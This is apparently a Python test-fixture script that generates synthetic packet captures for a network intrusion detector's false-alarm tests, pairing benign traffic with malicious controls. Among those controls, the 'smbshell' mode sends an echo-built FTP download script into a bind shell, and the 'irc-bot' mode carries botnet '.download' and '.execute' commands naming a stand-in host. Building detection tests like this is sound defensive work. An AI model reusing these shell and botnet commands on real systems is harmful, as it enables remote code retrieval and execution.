#!/usr/bin/env python3
"""fa_pcap.py OUT.pcap MODE - hand-made captures for false_alarms.sh: ordinary traffic that
must not be called malicious, each beside a control that must be (Ethernet, pcap, microseconds;
TCP segments in order with correct sequence numbers). Addresses are documentation ranges.

zeros     10.0.0.5 fetches /1M from the IP-literal host 203.0.113.80:80: 200, no content type,
          40 KB of zero bytes (a test file, as speed tests serve): filler, no download
noise     the same body of random bytes (an opaque payload from a bare address): a download
trans2    10.0.0.5 browses a share on 10.0.0.9:445 over SMB1: Trans2 FIND_FIRST2 and
          QUERY_FS_INFO requests (ordinary file access): no exploit
pulsar    the same session with a Trans2 SESSION_SETUP request (DoublePulsar's channel): exploit
loopback  127.0.0.1 talks to itself: 18 connections to port 6379, one a second, and a session
          to port 6633 held 120 s with a message both ways every 10 s (a local database and an
          SDN controller): no cnc_beacon
remote    the same two shapes from 10.0.0.5 to 203.0.113.7: cnc_beacon
irc-chat  10.0.0.5 chats on IRC at 198.51.100.6:6667 (NICK, USER, JOIN, messages, one
          addressed "@nick ..."): chat, no irc_cnc
smbshell  10.0.0.66 sends 2 KB to 10.0.0.9:445, then opens 10.0.0.9:1957 and gets a Windows
          command prompt (an SMB exploit and its bind shell): the sender is the attacker, the
          receiver the target
midstream 10.0.0.5 browses a little (3 HTTP fetches) while a raw session to 203.0.113.9:9001,
          opened before the capture began, trades a message both ways every 10 s for 120 s;
          the first packet seen comes from the server: the host holds the session (cnc_beacon)
poll-sni  10.0.0.5 opens a TLS connection naming api.example.org (SNI) to 203.0.113.9:443 every
          30 s, 12 times; its DNS lookup predates the capture (an app polling a named API): no
          cnc_beacon
tick-sni  the same every 3 s, 30 times (a new TLS session faster than a kept-alive connection
          would idle: a beacon's loop): cnc_beacon
offline   10.0.0.5 resolves 25 names (answered by its resolver 10.0.0.1), then its connections to
          port 443 of those addresses all go unanswered (a network that lets nothing out): no scan
sweep     the same unanswered SYNs to 25 addresses nobody looked up: scan
irc-bot   the same session where the channel gives ".download http://..." and ".execute":
          irc_cnc
"""
import random, struct, sys

from pcapgen import ETH, ip4, pcap_header

out = open(sys.argv[1], 'wb')
mode = sys.argv[2]
out.write(pcap_header())
ident = [0]
R = random.Random(11)


def ipb(s):
    return bytes(int(x) for x in s.split('.'))


def tcp(sport, dport, seq, ack, flags, data=b''):
    return struct.pack('!HHIIBBHHH', sport, dport, seq & 0xffffffff, ack & 0xffffffff, 5 << 4, flags,
                       65535, 0, 0) + data


def rec(ts, src, dst, seg):
    ident[0] += 1
    frame = ETH + ip4(src, dst, 6, seg, ident[0])
    out.write(struct.pack('<IIII', int(ts), int(round((ts % 1) * 1e6)) % 1000000, len(frame), len(frame)) + frame)


def udp(ts, src, sp, dst, dp, data):
    ident[0] += 1
    frame = ETH + ip4(ipb(src), ipb(dst), 17, struct.pack('!HHHH', sp, dp, 8 + len(data), 0) + data, ident[0])
    out.write(struct.pack('<IIII', int(ts), int(round((ts % 1) * 1e6)) % 1000000, len(frame), len(frame)) + frame)


def lookup(t, qid, name, addr):   # an A query from 10.0.0.5 and its answer from 10.0.0.1
    qn = b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\0'
    q = struct.pack('!HHHHHH', qid, 0x0100, 1, 0, 0, 0) + qn + b'\0\x01\0\x01'
    a = struct.pack('!HHHHHH', qid, 0x8180, 1, 1, 0, 0) + qn + b'\0\x01\0\x01' + \
        b'\xc0\x0c\0\x01\0\x01\0\0\x01\x2c\0\x04' + ipb(addr)
    udp(t, '10.0.0.5', 30000 + qid, '10.0.0.1', 53, q)
    udp(t + 0.01, '10.0.0.1', 53, '10.0.0.5', 30000 + qid, a)


class Conn:
    def __init__(self, a, b, sport, dport, t):
        self.a, self.b, self.sp, self.dp = ipb(a), ipb(b), sport, dport
        self.s, self.r = 1000, 50000
        rec(t, self.a, self.b, tcp(sport, dport, self.s, 0, 0x02))
        rec(t + 0.001, self.b, self.a, tcp(dport, sport, self.r, self.s + 1, 0x12))
        self.s += 1
        self.r += 1
        rec(t + 0.002, self.a, self.b, tcp(sport, dport, self.s, self.r, 0x10))

    def send(self, t, data):   # client -> server, then the server's ACK
        rec(t, self.a, self.b, tcp(self.sp, self.dp, self.s, self.r, 0x18, data))
        self.s += len(data)
        rec(t + 0.001, self.b, self.a, tcp(self.dp, self.sp, self.r, self.s, 0x10))

    def reply(self, t, data):   # server -> client in segments of 1400 bytes
        for i in range(0, len(data), 1400):
            d = data[i:i + 1400]
            rec(t, self.b, self.a, tcp(self.dp, self.sp, self.r, self.s, 0x18, d))
            self.r += len(d)
            t += 0.0005
        rec(t, self.a, self.b, tcp(self.sp, self.dp, self.s, self.r, 0x10))

    def close(self, t):
        rec(t, self.a, self.b, tcp(self.sp, self.dp, self.s, self.r, 0x11))
        rec(t + 0.001, self.b, self.a, tcp(self.dp, self.sp, self.r, self.s + 1, 0x11))
        rec(t + 0.002, self.a, self.b, tcp(self.sp, self.dp, self.s + 1, self.r + 1, 0x10))


def fetch(body):
    c = Conn('10.0.0.5', '203.0.113.80', 40000, 80, 1.0)
    c.send(1.01, b'GET /1M HTTP/1.1\r\nHost: 203.0.113.80\r\nUser-Agent: curl/7.69.1\r\nAccept: */*\r\n\r\n')
    c.reply(1.05, b'HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: %d\r\n\r\n' % len(body) + body)
    c.close(2.0)


def smb(cmd, words, nbytes=b''):   # NBSS + SMB1 header + parameter words + bytes
    hdr = b'\xffSMB' + bytes([cmd]) + b'\0' * 4 + b'\x18' + b'\x07\xc8' + b'\0' * 12 + b'\x00\x08' + \
        b'\xff\xfe' + b'\x00\x08' + b'\x41\x00'
    body = hdr + bytes([len(words) // 2]) + words + struct.pack('<H', len(nbytes)) + nbytes
    return b'\0' + struct.pack('!I', len(body))[1:] + body


def trans2(sub):
    words = struct.pack('<HHHHBBHIHHHHHBBH', 12, 0, 10, 4096, 0, 0, 0, 0, 0, 12, 68, 0, 80, 1, 0, sub)
    return smb(0x32, words, b'\0' * 15)


def share(subs):
    c = Conn('10.0.0.5', '10.0.0.9', 49200, 445, 1.0)
    c.send(1.01, smb(0x72, b'', b'\x02NT LM 0.12\0'))
    c.reply(1.02, smb(0x72, b'\x05\x00' + b'\0' * 32, b''))
    c.send(1.03, smb(0x73, b'\xff\x00' + b'\0' * 22, b'\0' * 20))
    c.reply(1.04, smb(0x73, b'\xff\x00\x00\x00\x00\x00', b''))
    t = 1.1
    for s in subs:
        c.send(t, trans2(s))
        c.reply(t + 0.01, smb(0x32, b'\x0a\x00' + b'\0' * 18, b'\0' * 40))
        t += 0.2
    c.close(t + 1)


def shapes(a, b):
    for i in range(18):   # a short exchange with one server port every second
        t = 1.0 + i * 1.005
        c = Conn(a, b, 52760 + i, 6379, t)
        c_t = t + 0.01
        c.send(c_t, b'*1\r\n$4\r\nPING\r\n')
        c.reply(c_t + 0.001, b'+PONG\r\n')
        c.close(c_t + 0.01)
    c = Conn(a, b, 34887, 6633, 30.0)   # one session held 120 s, a message both ways every 10 s
    for k in range(12):
        c.send(31.0 + k * 10, R.randbytes(24))
        c.reply(31.002 + k * 10, R.randbytes(16))
    c.close(150.0)


def irc(cmds):
    c = Conn('10.0.0.5', '198.51.100.6', 41000, 6667, 1.0)
    c.send(1.1, b'NICK walrus\r\nUSER walrus 0 * :Walrus\r\n')
    c.reply(1.2, b':irc.example.net 001 walrus :Welcome to the network walrus\r\n')
    c.send(2.0, b'JOIN #tea\r\n')
    c.reply(2.1, b':walrus!w@10.0.0.5 JOIN :#tea\r\n:irc.example.net 353 walrus = #tea :walrus @carpenter oyster\r\n')
    lines = [b':carpenter!c@h PRIVMSG #tea :@walrus the time has come to talk of many things\r\n',
             b':oyster!o@h PRIVMSG #tea :of shoes and ships and sealing wax\r\n'] + cmds
    t = 5.0
    for l in lines:
        c.reply(t, l)
        c.send(t + 2, b'PRIVMSG #tea :and cabbages and kings\r\n')
        t += 10
    c.close(t)


if mode == 'zeros':
    fetch(b'\0' * 40000)
elif mode == 'noise':
    fetch(R.randbytes(40000))
elif mode == 'trans2':
    share([0x01, 0x03, 0x01, 0x05])   # FIND_FIRST2, QUERY_FS_INFORMATION, QUERY_PATH_INFORMATION
elif mode == 'pulsar':
    share([0x01, 0x0e])
elif mode == 'loopback':
    shapes('127.0.0.1', '127.0.0.1')
elif mode == 'remote':
    shapes('10.0.0.5', '203.0.113.7')
elif mode == 'smbshell':
    c = Conn('10.0.0.66', '10.0.0.9', 3300, 445, 1.0)
    c.send(1.1, b'\0\0\x07\xd0' + R.randbytes(2000))
    c.reply(1.2, b'\0\0\0\x04' + b'\0' * 4)
    c.close(1.5)
    c = Conn('10.0.0.66', '10.0.0.9', 3301, 1957, 3.0)
    c.reply(3.1, b'Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n'
                 b'C:\\WINDOWS\\system32>')
    c.send(3.5, b'echo open 10.0.0.66 8884 > o&echo user 1 1 >> o\r\n')
    c.close(4.0)
elif mode == 'midstream':
    for i in range(3):
        c = Conn('10.0.0.5', '198.51.100.80', 41000 + i, 80, 1.0 + 20 * i)
        c.send(1.1 + 20 * i, b'GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n')
        c.reply(1.2 + 20 * i, b'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello')
        c.close(1.5 + 20 * i)
    a, b, s, r = ipb('10.0.0.5'), ipb('203.0.113.9'), 7000, 90000
    for k in range(12):   # no handshake: the server speaks first
        t = 2.0 + 10 * k
        d = R.randbytes(16)
        rec(t, b, a, tcp(9001, 50123, r, s, 0x18, d))
        r += len(d)
        d = R.randbytes(24)
        rec(t + 0.01, a, b, tcp(50123, 9001, s, r, 0x18, d))
        s += len(d)
        rec(t + 0.02, b, a, tcp(9001, 50123, r, s, 0x10))
elif mode in ('poll-sni', 'tick-sni'):
    name = b'api.example.org'
    ext = struct.pack('!HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b'\x03\x03' + b'\x11' * 32 + b'\x00' + b'\x00\x02\x13\x01' + b'\x01\x00' + struct.pack('!H', len(ext)) + ext
    hello = b'\x01' + len(body).to_bytes(3, 'big') + body
    sh = b'\x02' + (38).to_bytes(3, 'big') + b'\x03\x03' + b'\x22' * 32 + b'\x00\x13\x01\x00'
    step, n = (30.0, 12) if mode == 'poll-sni' else (3.0, 30)
    for k in range(n):
        t0 = 1.0 + step * k
        c = Conn('10.0.0.5', '203.0.113.9', 41000 + k, 443, t0)
        c.send(t0 + 0.1, b'\x16\x03\x01' + struct.pack('!H', len(hello)) + hello)
        c.reply(t0 + 0.2, b'\x16\x03\x03' + struct.pack('!H', len(sh)) + sh)
        c.send(t0 + 0.3, b'\x17\x03\x03\x00\x40' + bytes(64))
        c.reply(t0 + 0.4, b'\x17\x03\x03\x01\x00' + bytes(256))
        c.close(t0 + 0.5)
elif mode in ('offline', 'sweep'):
    for k in range(25):
        addr = '198.51.100.%d' % (10 + k * 7)
        t = 1.0 + k * 0.8
        if mode == 'offline':
            lookup(t, k + 1, b'svc%d.example.com' % k, addr)
        for r in range(3):   # a SYN and its retransmissions, never answered
            rec(t + 0.05 + r, ipb('10.0.0.5'), ipb(addr), tcp(42000 + k, 443, 5000, 0, 0x02))
elif mode == 'irc-chat':
    irc([])
elif mode == 'irc-bot':
    irc([b':carpenter!c@h PRIVMSG #tea :.download http://198.51.100.7/a.exe C:\\a.exe 1\r\n',
         b':carpenter!c@h PRIVMSG #tea :.execute C:\\a.exe\r\n'])
else:
    sys.exit('fa_pcap.py: unknown mode ' + mode)
